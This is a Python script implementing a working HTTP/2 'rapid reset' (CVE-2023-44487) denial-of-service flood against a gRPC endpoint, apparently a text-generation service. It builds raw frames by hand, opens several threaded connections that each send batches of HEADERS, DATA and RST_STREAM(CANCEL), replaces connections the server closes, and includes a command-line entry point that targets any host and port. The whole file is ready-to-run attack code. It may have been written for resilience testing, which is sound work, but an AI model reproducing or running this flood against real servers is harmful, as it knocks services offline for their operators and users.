"""A raw HTTP/2 client that does what CVE-2023-44487 ("rapid reset") does to a gRPC port.

Each connection sends the client preface and SETTINGS, then, stream after stream: HEADERS for
a TextGeneration call (HPACK literal headers without indexing, no Huffman: the encoding needs no
table), a DATA frame with an empty gRPC message (END_STREAM), and at once RST_STREAM(CANCEL);
no token. A reader thread per connection drains what the server sends (acknowledging its
SETTINGS, so it is not the server's write buffer that stops the attack) and notes a GOAWAY.
The standard library only: the framing is a few struct.pack calls (RFC 9113 section 4.1).
"""

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags,
                                                            stream_id) + payload


def _literal(name, value):
    """HPACK literal header field without indexing, new name (RFC 7541 section 6.2.2)."""
    def string(s):
        s = s.encode()
        assert len(s) < 127  # One-byte length, no Huffman.
        return bytes([len(s)]) + s
    return b"\x00" + string(name) + string(value)


def request_headers(authority, path):
    return b"".join(_literal(n, v) for n, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")))


class Connection:
    """One attacking connection; run() until `deadline` (time.monotonic())."""

    def __init__(self, host, port, path="/textgen.v1.TextGeneration/Tokenize"):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.streams = 0
        self.goaway = None  # (last stream id, error code) once the server sends one.
        self.closed = False
        self._headers = request_headers(f"{host}:{port}", path)
        self._send_lock = threading.Lock()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _send(self, data):
        with self._send_lock:
            self.sock.sendall(data)

    def _read(self):
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    payload = buffer[9:9 + length]
                    buffer = buffer[9 + length:]
                    if kind == SETTINGS and not flags & ACK:
                        self._send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self._send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY and len(payload) >= 8:
                        self.goaway = struct.unpack(">II", payload[:8])
        except OSError:
            pass
        self.closed = True

    def run(self, deadline, batch=16):
        """HEADERS + DATA + RST_STREAM, `batch` streams a write, until the deadline, the
        server's closing the connection, or stream ids running out."""
        stream_id = 1
        empty_message = b"\x00\x00\x00\x00\x00"  # gRPC: uncompressed, 0 bytes.
        try:
            while time.monotonic() < deadline and not self.closed and stream_id < 2**31 - 64:
                out = []
                for _ in range(batch):
                    out.append(frame(HEADERS, END_HEADERS, stream_id, self._headers))
                    out.append(frame(DATA, END_STREAM, stream_id, empty_message))
                    out.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                    stream_id += 2
                self._send(b"".join(out))
                self.streams += batch
        except OSError:
            self.closed = True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def flood(host, port, connections, seconds):
    """`connections` attacking connections for `seconds`; returns them (their counts) when
    done. A connection the server closes is replaced, as an attacker would."""
    deadline = time.monotonic() + seconds
    done = []
    lock = threading.Lock()

    def attacker():
        while time.monotonic() < deadline:
            try:
                c = Connection(host, port)
            except OSError:
                time.sleep(0.05)
                continue
            c.run(deadline)
            c.close()
            with lock:
                done.append(c)

    threads = [threading.Thread(target=attacker) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return done


if __name__ == "__main__":
    import sys
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    conns = flood(host, port, 8, seconds)
    print(f"{len(conns)} connections, {sum(c.streams for c in conns)} streams, "
          f"GOAWAYs {sum(c.goaway is not None for c in conns)}")
